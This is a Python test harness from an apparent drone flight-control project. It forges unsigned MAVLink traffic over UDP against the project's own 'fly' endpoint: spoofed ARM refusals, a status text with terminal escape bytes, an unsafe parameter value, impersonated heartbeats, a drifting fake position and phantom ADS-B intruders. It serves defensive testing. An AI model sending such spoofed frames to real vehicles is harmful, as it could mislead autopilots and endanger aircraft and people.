"""A hostile sender on the link, to test what `fly` believes: forged MAVLink over real UDP.

`Attacker.run` sends, from its own UDP socket (another address than any vehicle's), the attacks
of the project's threat table until cancelled:

* from the start: forged COMMAND_ACKs refusing ARM (with a STATUSTEXT full of escape bytes),
  PARAM_VALUE answers with an unsafe GUID_TIMEOUT, and a flood of ADS-B reports with random
  ICAO addresses from a system that is not in the mission;
* once ``armed()`` says so (the caller decides: e.g. once every vehicle is under control):
  HEARTBEATs claiming the victim's id in LOITER, a position stream for the victim that drifts
  up to `DRIFT_M` from its true track, and phantom ADS-B intruders near the swarm, under the
  victim's id and the stranger's.

Every frame is unsigned: a signing link drops them all before they are parsed.
"""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from dataclasses import dataclass

import numpy as np

from remarl_fc.frames import GeoPoint, ned_to_geodetic, to_deg_e7
from remarl_fc.mavlink.codec import Codec
from remarl_fc.mavlink.consts import (
    CopterMode,
    MavAutopilot,
    MavCmd,
    MavModeFlag,
    MavParamType,
    MavResult,
    MavState,
)
from remarl_fc.mavlink.udp import Address, UdpEndpoint

DRIFT_M = 35.0
"""How far the forged position stream drifts from the victim's true track, m."""

DRIFT_RATE_M_PER_FRAME = 0.5
"""The drift grows by this much per forged position, m."""

PHANTOMS = 20
"""Phantom intruders placed within `PHANTOM_SPREAD_M` of the swarm centre."""

PHANTOM_SPREAD_M = 60.0

FLOOD_PER_ROUND = 10
"""Random-ICAO ADS-B reports per round."""

STRANGER_ID = 77
"""The attacker's own system id (not in the mission)."""

ADSB_ALL_FLAGS = 0x1F
"""ADSB_VEHICLE.flags: coordinates, altitude, heading, velocity and callsign valid."""

# Where the victim is: (north, east, height above origin) m and (v_north, v_east) m/s, or None
Locate = Callable[[], tuple[tuple[float, float, float], tuple[float, float]] | None]


@dataclass
class Attacker:
    """Forged traffic against one ``fly`` endpoint.

    Args:
        target: the UDP address ``fly`` listens on.
        victim: the system id to impersonate.
        origin: the mission origin (positions are sent as lat/lon).
        locate: the victim's true position and velocity (an attacker who watches it).
        centre: the swarm's centre north/east, m, or None.
        armed: whether the in-flight attacks may start.
        period_s: one round of attacks per this many (wall) seconds.
        seed: for the random ICAOs and phantom positions.
    """

    target: Address
    victim: int
    origin: GeoPoint
    locate: Locate
    centre: Callable[[], tuple[float, float] | None]
    armed: Callable[[], bool]
    period_s: float = 0.0125
    seed: int = 0
    from_start: bool = True
    """Send the start-up attacks from the start (False: everything only once ``armed()``)."""
    inject: Callable[[bytes], None] | None = None
    """Instead of sending from its own socket, hand each frame to this (a forger on the
    vehicle's own radio: its frames arrive from the vehicle's address)."""
    sent: int = 0

    async def run(self) -> None:
        """Attack until cancelled."""
        forger, stranger = Codec(self.victim, 1), Codec(STRANGER_ID, 1)
        rng = np.random.default_rng(self.seed)
        rounds = 0
        in_flight = False
        async with UdpEndpoint(("127.0.0.1", 0), on_datagram=lambda *_: None) as udp:
            while True:
                in_flight = in_flight or self.armed()
                frames = []
                if self.from_start or in_flight:
                    frames = self._startup_round(forger, stranger, rng)
                if in_flight:
                    rounds += 1
                    frames += self._flight_round(forger, stranger, rng, rounds)
                for frame in frames:
                    if self.inject is not None:
                        self.inject(frame)
                    else:
                        udp.send(frame, self.target)
                self.sent += len(frames)
                await asyncio.sleep(self.period_s)

    def _startup_round(
        self, forger: Codec, stranger: Codec, rng: np.random.Generator
    ) -> list[bytes]:
        f = forger.factory
        refusal = f.command_ack_encode(
            MavCmd.COMPONENT_ARM_DISARM, MavResult.DENIED, 0, 0, 255, 191
        )
        text = f.statustext_encode(2, b"PreArm: \x1b[2J\x07 forged")
        param = f.param_value_encode(b"GUID_TIMEOUT", 0.05, MavParamType.REAL32, 10, 0)
        out = [forger.encode(refusal), forger.encode(text), forger.encode(param)]
        for _ in range(FLOOD_PER_ROUND):
            icao = int(rng.integers(1, 0xFFFFFF))
            n, e = rng.uniform(-500.0, 500.0, 2)
            out.append(self._adsb(stranger, icao, n, e, 20.0))
        return out

    def _flight_round(
        self, forger: Codec, stranger: Codec, rng: np.random.Generator, rounds: int
    ) -> list[bytes]:
        f = forger.factory
        loiter = f.heartbeat_encode(
            2, MavAutopilot.ARDUPILOTMEGA, MavModeFlag.CUSTOM_MODE_ENABLED,
            CopterMode.LOITER, MavState.ACTIVE,
        )  # fmt: skip
        out = [forger.encode(loiter)]
        where = self.locate()
        if where is not None:
            (n, e, h), (vn, ve) = where
            drift = min(DRIFT_M, DRIFT_RATE_M_PER_FRAME * rounds)
            out.append(self._position(forger, n + drift, e, h, vn, ve))
        centre = self.centre()
        if centre is not None:
            for k in range(PHANTOMS):
                dn, de = rng.uniform(-PHANTOM_SPREAD_M, PHANTOM_SPREAD_M, 2)
                src = stranger if k % 2 else forger
                out.append(self._adsb(src, 0xF00000 + k, centre[0] + dn, centre[1] + de, 20.0))
        return out

    def _position(self, codec: Codec, n: float, e: float, h: float, vn: float, ve: float) -> bytes:
        lat, lon, alt = ned_to_geodetic(n, e, -h, self.origin)
        msg = codec.factory.global_position_int_encode(
            0, int(to_deg_e7(lat)), int(to_deg_e7(lon)), round(float(alt) * 1000),
            round(h * 1000), round(vn * 100), round(ve * 100), 0, 65535,
        )  # fmt: skip
        return codec.encode(msg)

    def _adsb(self, codec: Codec, icao: int, n: float, e: float, h: float) -> bytes:
        lat, lon, alt = ned_to_geodetic(n, e, -h, self.origin)
        msg = codec.factory.adsb_vehicle_encode(
            icao, int(to_deg_e7(lat)), int(to_deg_e7(lon)), 1, round(float(alt) * 1000),
            0, 1000, 0, b"PHANTOM", 14, 0, ADSB_ALL_FLAGS, 0,
        )  # fmt: skip
        return codec.encode(msg)
